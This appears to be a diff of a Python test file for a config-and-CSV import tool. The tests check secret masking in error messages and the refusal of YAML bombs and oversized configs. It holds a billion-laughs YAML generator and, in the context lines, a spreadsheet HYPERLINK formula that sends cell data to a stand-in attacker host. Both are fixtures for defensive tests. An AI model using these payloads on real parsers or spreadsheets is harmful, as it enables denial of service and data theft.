@@ -283,6 +283,71 @@ def test_a_secret_with_a_line_break_is_refused_not_sent_as_extra_headers(
     assert server.requests == []
 
 
+def test_a_secret_pasted_into_the_config_is_refused_and_never_echoed(tmp_path: Path) -> None:
+    # An API key pasted where the variable's NAME belongs: the refusal must not print it, in
+    # its message or in the YAML line shown under it.
+    pasted = "sk_live_abc123def456ghi789"
+    write_csv(tmp_path / "c.csv", ["手机号"], [["13800000000"]])
+    (tmp_path / "job.yaml").write_text(
+        f"target:\n  secret_env: {pasted}\n"
+        "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n",
+        encoding="utf-8",
+    )
+    refusal = (
+        "error: invalid config job.yaml:\n"
+        "  target.secret_env (line 2): secret_env looks like the SECRET itself; it must be the "
+        "NAME of an environment variable -- put the SECRET in an environment variable (e.g. "
+        "DMART_SECRET) and name it here\n"
+        "    2 |   secret_env: ****\n"
+        "      |   ^ secret_env looks like the SECRET itself; it must be the NAME of an "
+        "environment variable\n"
+    )
+    for command in (["check-config", "job.yaml"], ["run", "job.yaml", "c.csv"]):
+        assert dmimport(*command, cwd=tmp_path) == (2, "", refusal)
+
+    # Not a name at all (a base64 key): refused without quoting it either.
+    (tmp_path / "job.yaml").write_text(
+        "target: {secret_env: 'c2VjcmV0+/==', debug: false}\n"
+        "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n",
+        encoding="utf-8",
+    )
+    assert dmimport("check-config", "job.yaml", cwd=tmp_path) == (
+        2,
+        "",
+        "error: invalid config job.yaml:\n"
+        "  target.secret_env (line 1): secret_env is not an environment variable name (letters, "
+        "digits and '_', not starting with a digit) -- e.g. DMART_SECRET\n"
+        "    1 | target: {secret_env: ****, debug: false}\n"
+        "      |          ^ secret_env is not an environment variable name (letters, digits and "
+        "'_', not starting with a digit)\n",
+    )
+
+    # The SECRET itself under a key of another name, and as a constant: masked wherever the
+    # excerpt would show it, because it equals the SECRET the environment holds.
+    (tmp_path / "job.yaml").write_text(
+        "target: {secret_env: DMART_SECRET}\n"
+        f"job: {{kind: user, primary_keys: [phone], sekret: {CANARY}}}\n"
+        "columns:\n"
+        "  phone: 手机号\n"
+        f"  source: {{value: {CANARY}, required: true}}\n",
+        encoding="utf-8",
+    )
+    assert dmimport("check-config", "job.yaml", cwd=tmp_path) == (
+        2,
+        "",
+        "error: invalid config job.yaml:\n"
+        "  job.sekret (line 2): unknown key 'sekret' -- allowed keys: name, kind, event_name, "
+        "event_name_from, primary_keys, max_value_length\n"
+        "  columns.source (line 5): 'required' only applies to a column read from the file "
+        "('from'), not to a constant 'value'\n"
+        "    2 | job: {kind: user, primary_keys: [phone], sekret: ****}\n"
+        "      |                                          ^ unknown key 'sekret'\n"
+        "    5 |   source: {value: ****, required: true}\n"
+        "      |   ^ 'required' only applies to a column read from the file ('from'), not to a "
+        "constant 'value'\n",
+    )
+
+
 # -- report files: spreadsheet-safe, raw where it must be, private --------------------------------
 
 HOSTILE_COLUMN = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -458,6 +523,81 @@ def test_yaml_python_tags_are_refused_not_executed(tmp_path: Path, tag: str) -> 
             "line",
         ]
         assert all(" | " in line for line in lines[2:]), lines  # the line, with a pointer
+
+
+BOMB_HEAD = "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n"
+
+
+def _billion_laughs() -> str:
+    """Nine levels of nine aliases: 9**9 (387 million) values once expanded."""
+    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
+        lines.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
+    return BOMB_HEAD + "\n".join(lines) + "\n"
+
+
+def _dmimport_in_1gb(*args: str, cwd: Path) -> tuple[int, str, str]:
+    """The CLI with its address space capped at 1 GiB: a bomb that gets through fails fast
+    with MemoryError instead of eating the machine."""
+    import resource
+
+    def cap() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
+
+    env = {k: v for k, v in os.environ.items() if not k.startswith("DMART_")}
+    proc = subprocess.run([str(DMIMPORT), *args], capture_output=True, text=True, env=env,
+                          cwd=cwd, timeout=120, preexec_fn=cap)  # fmt: skip
+    return proc.returncode, proc.stdout, proc.stderr
+
+
+@pytest.mark.parametrize(
+    ("text", "problem", "shown"),
+    [
+        (
+            _billion_laughs(),
+            "  config (line 9): alias *e expands the document past 100,000 values (aliases "
+            "repeating aliases) -- a config needs a few hundred; use fewer aliases (*name)",
+            "    9 | f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]",
+        ),
+        (
+            BOMB_HEAD + "x: " + "[" * 50_000 + "]" * 50_000 + "\n",
+            "  config (line 4): nesting deeper than 100 levels -- a config needs a few levels; "
+            "is this the right file?",
+            "    4 | x: " + "[" * 157 + " ...",
+        ),
+        (
+            BOMB_HEAD + "x: &x [*x]\n",
+            "  config (line 4): alias *x is used inside its own anchor (a structure that contains "
+            "itself) -- write the values out instead of the alias",
+            "    4 | x: &x [*x]",
+        ),
+    ],
+    ids=["billion-laughs", "deep-nesting", "self-reference"],
+)
+def test_yaml_bombs_are_refused_with_the_line_in_bounded_memory(
+    tmp_path: Path, text: str, problem: str, shown: str
+) -> None:
+    (tmp_path / "bomb.yaml").write_text(text, encoding="utf-8")
+    write_csv(tmp_path / "c.csv", ["手机号"], [["13800000000"]])
+    for command in (["check-config", "bomb.yaml"], ["run", "bomb.yaml", "c.csv"]):
+        code, out, err = _dmimport_in_1gb(*command, cwd=tmp_path)
+        assert (code, out) == (2, ""), err
+        lines = err.splitlines()
+        assert lines[:3] == ["error: invalid config bomb.yaml:", problem, shown], lines
+        assert "Traceback" not in err
+    assert not (tmp_path / "reports").exists()
+
+
+def test_a_config_larger_than_1_mib_is_refused_unread(tmp_path: Path) -> None:
+    (tmp_path / "big.yaml").write_text(BOMB_HEAD + "# " + "x" * (1 << 20) + "\n")
+    code, out, err = _dmimport_in_1gb("check-config", "big.yaml", cwd=tmp_path)
+    assert (code, out, err) == (
+        2,
+        "",
+        "error: invalid config big.yaml:\n"
+        "  config: the file is larger than 1 MiB; a config is a few KB -- is this the right "
+        "file?\n",
+    )
 
 
 # -- compressed input is bounded ----------------------------------------------------------------
